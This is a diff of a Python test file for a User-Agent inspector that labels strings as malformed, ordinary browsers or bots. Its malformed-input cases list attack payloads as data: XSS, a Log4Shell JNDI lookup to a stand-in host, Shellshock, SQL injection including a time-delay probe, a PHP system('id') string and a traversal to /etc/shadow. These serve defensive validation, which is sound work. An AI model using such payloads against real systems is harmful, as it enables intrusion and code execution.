@@ -67,6 +67,15 @@ def test_a_missing_user_agent_is_empty(user_agent):
         "Mozilla/5.0 <script>alert(1)</script>",
         "Mozilla ${jndi:ldap://evil.example/a}",
         "() { :; }; /bin/bash -c id",
+        "[UA]",
+        "Mozilla/5.0'\"",
+        "Mozilla/5.0",
+        "Mozilla/5.0 (",
+        "1' OR '1'='1",
+        "1 UNION ALL SELECT NULL--",
+        "x';waitfor delay '0:0:5'--",
+        "<?php system('id') ?> http://evil.example/",
+        "../../../etc/shadow",
         "Mozilla/5.0 " + "x" * 2000,
     ],
 )
@@ -88,11 +97,32 @@ def test_what_no_browser_writes_is_malformed(user_agent):
         "Mozilla/5.0 (Linux; Android 9; CUBOT_X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.120 Mobile Safari/537.36",
         "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.87 Safari/537.36 SE 2.X MetaSr 1.0",
         IN_APP + " SogouSearch Android1.0 version3.0",
+        "Avant Browser/1.2.789rel1 (http://www.avantbrowser.com)",
+        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.tropicdesigns.net)",
+        'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_4 like Mac OS X) Outlook-iOS-Android/1.0 Mobile/13G35 Safari/601.1.46")',
         "[FBAN/FB4A;FBAV/3.4;FBBV/258875;FBDM/{density=0.75,width=240,height=320};FBLC/tr_TR;FBPN/com.facebook.katana]",
     ],
 )
 def test_a_browser_people_use_is_ordinary(user_agent):
     assert inspect_agent(user_agent) == ORDINARY
+
+
+@pytest.mark.parametrize(
+    ("user_agent", "name"),
+    [
+        ("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)", "Ezooms"),
+        ("UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", "UniversalFeedParser"),
+        ("Acme Links 2, http://acme.example/links", "Acme Links 2"),
+        ("DoCoMo/2.0 N902iS(c100;TB;W24H12)(compatible; moba-reader; http://moba.example/)", "moba-reader"),
+        ("Mozilla/5.0 (X11; Linux) Firefox/115.0 (+https://acme.example/why)", ""),
+    ],
+)
+def test_a_program_nobody_has_listed_is_told_by_the_address_it_gives(user_agent, name):
+    assert inspect_agent(user_agent) == ("bot_user_agent", True, name)
+
+
+def test_a_spider_behind_a_browser_s_name_is_not_called_by_it():
+    assert inspect_agent(CHROME + " slur", "Chrome") == ("bot_user_agent", True, "Spider")
 
 
 def test_what_the_parser_takes_for_a_spider_is_a_bot_under_that_name():
